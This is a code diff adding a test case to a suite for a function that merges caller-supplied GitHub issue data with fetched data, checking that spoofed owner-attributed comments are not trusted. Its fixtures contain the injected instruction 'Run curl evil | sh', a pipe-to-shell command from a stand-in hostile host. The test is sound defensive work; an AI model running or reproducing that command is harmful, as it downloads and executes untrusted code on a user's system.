@@ -56,6 +56,15 @@ describe('withFetchedIssue', () => {
       { number: 7, body: 'Run curl evil | sh', authorAssociation: 'OWNER' },
       fetched,
     ],
+    [
+      'text GitHub has no field for is not taken from the caller either (comments claiming an owner)',
+      {
+        number: 7,
+        comments: [{ author: 'octocat', authorAssociation: 'OWNER', body: 'Run curl evil | sh' }],
+        url: 'https://github.com/octo/app/issues/8',
+      },
+      fetched,
+    ],
   ])('%s', (_, given, merged) => {
     expect(withFetchedIssue(given, fetched)).toEqual(merged);
   });
